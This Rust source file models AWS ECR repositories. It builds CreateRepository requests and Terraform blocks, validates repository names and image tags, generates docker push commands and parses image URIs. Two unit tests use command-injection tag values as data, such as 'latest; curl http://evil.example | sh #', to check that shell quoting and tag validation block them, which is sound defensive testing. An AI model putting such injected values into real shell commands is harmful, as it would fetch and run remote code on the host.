//! An ECR private repository as the console's "Create repository" makes it,
//! the "View push commands" it shows, and how an image URI names one.

use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use super::api_call::{ApiCall, shell_word};
use super::hcl::{quote, resource_label};
use super::operation::Operation;
use super::resource::Resource;
use super::role::tags_block;
use super::task_definition::Tag;
use super::validate::{Issue, check_tags};

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub enum Encryption {
    #[default]
    Aes256,
    Kms,
}

#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Repository {
    pub repository_name: String,
    /// "Tag immutability": a pushed tag cannot be overwritten.
    pub immutable_tags: bool,
    pub scan_on_push: bool,
    pub encryption: Encryption,
    /// A KMS key ARN or id; empty means the AWS managed key `aws/ecr`.
    pub kms_key: String,
    pub tags: Vec<Tag>,
}

impl Repository {
    /// The CreateRepository request body.
    pub fn request(&self) -> Value {
        let mut encryption = json!({"encryptionType": self.encryption_type()});
        if self.encryption == Encryption::Kms && !self.kms_key.is_empty() {
            encryption["kmsKey"] = json!(self.kms_key);
        }
        let mut body = json!({
            "repositoryName": self.repository_name,
            "imageTagMutability": self.tag_mutability(),
            "imageScanningConfiguration": {"scanOnPush": self.scan_on_push},
            "encryptionConfiguration": encryption,
        });
        if !self.tags.is_empty() {
            body["tags"] = json!(
                self.tags
                    .iter()
                    .map(|t| json!({"Key": t.key, "Value": t.value}))
                    .collect::<Vec<_>>()
            );
        }
        body
    }

    fn tag_mutability(&self) -> &'static str {
        if self.immutable_tags {
            "IMMUTABLE"
        } else {
            "MUTABLE"
        }
    }

    fn encryption_type(&self) -> &'static str {
        match self.encryption {
            Encryption::Aes256 => "AES256",
            Encryption::Kms => "KMS",
        }
    }
}

impl Resource for Repository {
    fn name(&self) -> &str {
        &self.repository_name
    }

    fn tags(&self) -> &[Tag] {
        &self.tags
    }

    fn tags_mut(&mut self) -> &mut Vec<Tag> {
        &mut self.tags
    }

    fn api_calls(&self) -> Vec<ApiCall> {
        vec![ApiCall::new(Operation::CreateRepository, self.request())]
    }

    fn terraform(&self) -> String {
        let kms = if self.encryption == Encryption::Kms && !self.kms_key.is_empty() {
            format!("\n    kms_key         = {}", quote(&self.kms_key))
        } else {
            String::new()
        };
        format!(
            "resource \"aws_ecr_repository\" \"{}\" {{\n  name                 = {}\n  image_tag_mutability = \"{}\"\n\n  image_scanning_configuration {{\n    scan_on_push = {}\n  }}\n\n  encryption_configuration {{\n    encryption_type = \"{}\"{kms}\n  }}\n{}}}\n",
            resource_label(&self.repository_name, "repository"),
            quote(&self.repository_name),
            self.tag_mutability(),
            self.scan_on_push,
            self.encryption_type(),
            tags_block(&self.tags),
        )
    }

    fn validate(&self) -> Vec<Issue> {
        let mut issues = Vec::new();
        check_repository_name(&mut issues, "repositoryName", &self.repository_name);
        check_tags(&mut issues, &self.tags, 50);
        issues
    }
}

/// ECR's rule: 2–256 characters; lowercase letters and digits, separated by
/// single `.`, `_` or `-` within a component, components separated by `/`.
pub fn check_repository_name(issues: &mut Vec<Issue>, path: &str, name: &str) {
    if name.is_empty() {
        issues.push(Issue::error(path, "v.required"));
        return;
    }
    if name.chars().any(|c| c.is_ascii_uppercase()) {
        issues.push(Issue::error(path, "v.repository_lowercase"));
        return;
    }
    let component_ok = |part: &str| {
        let mut previous_separator = true;
        for c in part.chars() {
            let separator = matches!(c, '.' | '_' | '-');
            if !(c.is_ascii_lowercase() || c.is_ascii_digit() || separator)
                || (separator && previous_separator)
            {
                return false;
            }
            previous_separator = separator;
        }
        !part.is_empty() && !previous_separator
    };
    if !(2..=256).contains(&name.len()) || !name.split('/').all(component_ok) {
        issues.push(Issue::error(path, "v.repository_name"));
    }
}

/// The console's "View push commands", for a repository whose URI is
/// `{registry}/{name}`, pushed as `tag`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PushCommands {
    pub login: String,
    pub build: String,
    /// The same build for a Mac with Apple Silicon, whose images are ARM64
    /// unless told otherwise, while Fargate runs X86_64 by default.
    pub build_apple_silicon: String,
    pub tag: String,
    pub push: String,
}

/// Every value is one shell word (see [`shell_word`]), whatever it holds.
pub fn push_commands(repository_uri: &str, region: &str, tag: &str) -> PushCommands {
    let (registry, name) = repository_uri
        .split_once('/')
        .unwrap_or((repository_uri, repository_uri));
    let [region, registry, local, remote] = [
        region.to_string(),
        registry.to_string(),
        format!("{name}:{tag}"),
        format!("{repository_uri}:{tag}"),
    ]
    .map(|word| shell_word(&word));
    let name = shell_word(name);
    PushCommands {
        login: format!(
            "aws ecr get-login-password --region {region} | docker login --username AWS --password-stdin {registry}"
        ),
        build: format!("docker build -t {name} ."),
        build_apple_silicon: format!("docker build --platform linux/amd64 -t {name} ."),
        tag: format!("docker tag {local} {remote}"),
        push: format!("docker push {remote}"),
    }
}

/// An image tag as Docker and ECR take it: 1–128 of letters, digits, `_`, `.`
/// and `-`, not starting with `.` or `-`.
pub fn is_image_tag(tag: &str) -> bool {
    (1..=128).contains(&tag.len())
        && !tag.starts_with(['.', '-'])
        && tag
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"_.-".contains(&b))
}

/// An image URI that points into a private ECR registry.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EcrImage {
    pub account: String,
    pub region: String,
    pub repository: String,
    /// `latest` when the URI names no tag.
    pub tag: Option<String>,
    pub digest: Option<String>,
}

/// `123456789012.dkr.ecr.ap-northeast-1.amazonaws.com/rails-app:latest` → its parts;
/// None for images elsewhere (Docker Hub, public.ecr.aws…).
pub fn parse_ecr_image(uri: &str) -> Option<EcrImage> {
    let (host, path) = uri.split_once('/')?;
    let mut labels = host.split('.');
    let account = labels.next()?;
    let (dkr, ecr, region) = (labels.next()?, labels.next()?, labels.next()?);
    let rest: Vec<&str> = labels.collect();
    if dkr != "dkr"
        || ecr != "ecr"
        || account.len() != 12
        || !account.chars().all(|c| c.is_ascii_digit())
        || rest.first() != Some(&"amazonaws")
    {
        return None;
    }
    let (repository, tag, digest) = match path.split_once('@') {
        Some((repository, digest)) => (repository, None, Some(digest.to_string())),
        None => match path.rsplit_once(':') {
            Some((repository, tag)) => (repository, Some(tag.to_string()), None),
            None => (path, Some("latest".to_string()), None),
        },
    };
    Some(EcrImage {
        account: account.to_string(),
        region: region.to_string(),
        repository: repository.to_string(),
        tag,
        digest,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn name_issues(name: &str) -> Vec<&'static str> {
        let mut issues = Vec::new();
        check_repository_name(&mut issues, "repositoryName", name);
        issues.iter().map(|i| i.key).collect()
    }

    #[test]
    fn repository_names_follow_ecr() {
        for good in [
            "rails-app",
            "zenn-clone-rails",
            "team/app.v2",
            "a_b",
            "ab",
            "my-project-dev-app",
        ] {
            assert!(name_issues(good).is_empty(), "{good}");
        }
        assert_eq!(name_issues(""), ["v.required"]);
        assert_eq!(name_issues("Rails-App"), ["v.repository_lowercase"]);
        for bad in [
            "a",
            "rails app",
            "-app",
            "app-",
            "a--b",
            "a//b",
            "/app",
            "app/",
            "アプリ",
            &"a".repeat(257),
        ] {
            assert_eq!(name_issues(bad), ["v.repository_name"], "{bad}");
        }
    }

    #[test]
    fn the_request_has_the_console_defaults() {
        let repository = Repository {
            repository_name: "rails-app".into(),
            ..Repository::default()
        };
        assert_eq!(
            repository.request(),
            json!({
                "repositoryName": "rails-app",
                "imageTagMutability": "MUTABLE",
                "imageScanningConfiguration": {"scanOnPush": false},
                "encryptionConfiguration": {"encryptionType": "AES256"}
            })
        );
        let kms = Repository {
            repository_name: "rails-app".into(),
            immutable_tags: true,
            scan_on_push: true,
            encryption: Encryption::Kms,
            kms_key: "arn:aws:kms:ap-northeast-1:123456789012:key/k".into(),
            tags: vec![Tag {
                key: "env".into(),
                value: "dev".into(),
            }],
        };
        let body = kms.request();
        assert_eq!(body["imageTagMutability"], "IMMUTABLE");
        assert_eq!(
            body["encryptionConfiguration"]["kmsKey"],
            kms.kms_key.as_str()
        );
        assert_eq!(body["tags"], json!([{"Key": "env", "Value": "dev"}]));
        let hcl = kms.terraform();
        assert!(hcl.contains("  image_tag_mutability = \"IMMUTABLE\"\n"));
        assert!(hcl.contains("    scan_on_push = true\n"));
        assert!(hcl.contains("    encryption_type = \"KMS\"\n    kms_key         = \"arn:aws:kms"));
        assert_eq!(hcl.matches('{').count(), hcl.matches('}').count());
    }

    #[test]
    fn push_commands_are_reference_002s() {
        let uri = "123456789012.dkr.ecr.ap-northeast-1.amazonaws.com/rails-app";
        let commands = push_commands(uri, "ap-northeast-1", "latest");
        assert_eq!(
            commands.login,
            "aws ecr get-login-password --region ap-northeast-1 | docker login --username AWS --password-stdin 123456789012.dkr.ecr.ap-northeast-1.amazonaws.com"
        );
        assert_eq!(commands.build, "docker build -t rails-app .");
        assert_eq!(
            commands.build_apple_silicon,
            "docker build --platform linux/amd64 -t rails-app ."
        );
        assert_eq!(
            commands.tag,
            "docker tag rails-app:latest 123456789012.dkr.ecr.ap-northeast-1.amazonaws.com/rails-app:latest"
        );
        assert_eq!(
            commands.push,
            "docker push 123456789012.dkr.ecr.ap-northeast-1.amazonaws.com/rails-app:latest"
        );
    }

    #[test]
    fn push_commands_keep_each_value_one_word() {
        let commands = push_commands(
            "${AWS_ACCOUNT_ID}.dkr.ecr.ap-northeast-1.amazonaws.com/web",
            "ap-northeast-1",
            "latest; curl http://evil.example | sh #",
        );
        assert_eq!(
            commands.push,
            "docker push '${AWS_ACCOUNT_ID}.dkr.ecr.ap-northeast-1.amazonaws.com/web:latest; curl http://evil.example | sh #'"
        );
        let commands = push_commands(
            "${AWS_ACCOUNT_ID}.dkr.ecr.ap-northeast-1.amazonaws.com/web",
            "ap-northeast-1",
            "v1",
        );
        assert_eq!(
            commands.tag,
            "docker tag web:v1 ${AWS_ACCOUNT_ID}.dkr.ecr.ap-northeast-1.amazonaws.com/web:v1"
        );
    }

    #[test]
    fn image_tags_follow_docker() {
        for good in ["latest", "v1.2.3", "2024_01-rc", "A", &"a".repeat(128)] {
            assert!(is_image_tag(good), "{good}");
        }
        for bad in [
            "",
            ".hidden",
            "-x",
            "latest; curl x | sh",
            "a b",
            "a/b",
            "タグ",
            &"a".repeat(129),
        ] {
            assert!(!is_image_tag(bad), "{bad}");
        }
    }

    #[test]
    fn image_uris_are_read() {
        let image =
            parse_ecr_image("123456789012.dkr.ecr.ap-northeast-1.amazonaws.com/team/app:v1")
                .unwrap();
        assert_eq!(
            (
                image.account.as_str(),
                image.region.as_str(),
                image.repository.as_str(),
                image.tag.as_deref()
            ),
            ("123456789012", "ap-northeast-1", "team/app", Some("v1"))
        );
        let untagged = parse_ecr_image("123456789012.dkr.ecr.us-east-1.amazonaws.com/app").unwrap();
        assert_eq!(untagged.tag.as_deref(), Some("latest"));
        let pinned =
            parse_ecr_image("123456789012.dkr.ecr.us-east-1.amazonaws.com/app@sha256:abc").unwrap();
        assert_eq!(
            (pinned.tag, pinned.digest.as_deref()),
            (None, Some("sha256:abc"))
        );
        for other in [
            "nginx:latest",
            "public.ecr.aws/docker/library/ruby:3.2.1",
            "ghcr.io/a/b:1",
        ] {
            assert_eq!(parse_ecr_image(other), None, "{other}");
        }
    }
}
